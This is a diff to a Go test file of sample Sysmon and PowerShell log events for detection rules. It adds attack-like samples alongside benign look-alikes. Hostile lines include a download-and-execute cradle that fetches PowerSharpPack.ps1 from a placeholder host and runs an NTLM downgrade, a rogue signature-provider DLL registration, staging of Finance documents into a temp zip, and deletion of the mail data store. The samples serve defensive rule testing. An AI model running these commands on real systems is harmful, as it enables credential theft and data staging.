@@ -285,6 +285,16 @@ func init() {
 			},
 		},
 		ruleSample{
+			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "C:\\Users\\bob\\AppData\\Local\\Temp\\GTSIPProvider.dll",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\System32\\regsvr32.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{000C10F1-0000-0000-C000-000000000046}\\Dll",
+			},
+		},
+		ruleSample{
 			ID:      "199d9ddb-a674-48b5-a4eb-133565ed3660", // Driver Signature Enforcement Relaxed With bcdedit
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
@@ -334,11 +344,20 @@ func init() {
 			},
 		},
 		ruleSample{
-			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless From a Command Line
+			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
 				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" startvm micro --type headless",
 				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\ProgramData\\vb\\VBoxSVC.exe\" /reregserver",
+				"Image":       "C:\\ProgramData\\vb\\VBoxSVC.exe",
 				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
@@ -526,6 +545,41 @@ func init() {
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
 				"ScriptBlockText": "if ([Kernel32]::IsDebuggerPresent() -or [System.Diagnostics.Debugger]::IsAttached) { exit }",
+			},
+		},
+		ruleSample{
+			ID:      "2c916041-7708-4889-8f1f-e0611c4c7ab6", // Script Joins an Image and an Archive or Program Into One File
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-Content \"$env:TEMP\\kitten.jpg\", \"$env:TEMP\\tools.tar.gz\" -Encoding byte -ReadCount 0 | Set-Content \"$env:TEMP\\kitten_new.jpg\" -Encoding byte",
+			},
+		},
+		ruleSample{
+			ID:      "678d7f7e-1244-4106-bdb6-d984d2e512b7", // Windows Mail Data Store Deleted or Tampered With
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Copy-Item \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\*\" \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\copy\" -Recurse; Remove-Item -Path \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\copy\\*\" -Recurse -Force",
+			},
+		},
+		ruleSample{
+			ID:      "62b1e675-706c-41b9-8068-caf4b820a8d5", // Script Archives Files Into a Temp or Public Staging Folder
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Compress-Archive -Path \"$env:USERPROFILE\\Documents\\Finance\" -DestinationPath \"$env:TEMP\\Folder_to_zip.zip\" -Force",
+			},
+		},
+		ruleSample{
+			ID:      "bbea3565-3d87-439e-a6fd-caafa6d2e762", // Authentication Coercion or NTLM Downgrade Run From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "iex(new-object net.webclient).downloadstring('https://example.invalid/PowerSharpPack.ps1'); Invoke-Internalmonologue -command \"-Downgrade true -impersonate true -restore true\"",
+			},
+		},
+		ruleSample{
+			ID:      "3dc1bdd8-f305-4ec0-bb99-797015a94243", // Hyper-V Virtual Machine Created and Started by a Script
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "New-VM -Name \"Atomic VM\" -MemoryStartupBytes 1GB -NewVHDPath \"C:\\ProgramData\\a.vhdx\" -NewVHDSizeBytes 21474836480; Start-VM -Name \"Atomic VM\"",
 			},
 		},
 	)
@@ -840,7 +894,7 @@ func init() {
 			},
 		},
 		ruleSample{
-			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless From a Command Line
+			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
 				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" list runningvms",
@@ -1032,6 +1086,41 @@ func init() {
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
 				"ScriptBlockText": "Set-PSDebug -Trace 1; Get-PSBreakpoint | Remove-PSBreakpoint",
+			},
+		},
+		ruleSample{
+			ID:      "2c916041-7708-4889-8f1f-e0611c4c7ab6", // Script Joins an Image and an Archive or Program Into One File
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$b = [IO.File]::ReadAllBytes(\"C:\\Web\\logo.png\"); $hash = (Get-FileHash C:\\Web\\logo.png).Hash; Set-Content C:\\Web\\logo.sha256 $hash",
+			},
+		},
+		ruleSample{
+			ID:      "678d7f7e-1244-4106-bdb6-d984d2e512b7", // Windows Mail Data Store Deleted or Tampered With
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-ChildItem \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\" -Recurse | Measure-Object -Property Length -Sum",
+			},
+		},
+		ruleSample{
+			ID:      "62b1e675-706c-41b9-8068-caf4b820a8d5", // Script Archives Files Into a Temp or Public Staging Folder
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Compress-Archive -Path C:\\Projects\\site\\* -DestinationPath D:\\Releases\\site-1.4.zip",
+			},
+		},
+		ruleSample{
+			ID:      "bbea3565-3d87-439e-a6fd-caafa6d2e762", // Authentication Coercion or NTLM Downgrade Run From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-Service Spooler | Stop-Service -Force; Set-Service Spooler -StartupType Disabled",
+			},
+		},
+		ruleSample{
+			ID:      "3dc1bdd8-f305-4ec0-bb99-797015a94243", // Hyper-V Virtual Machine Created and Started by a Script
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-VM | Where-Object State -eq Running | Select-Object Name, Uptime",
 			},
 		},
 	)
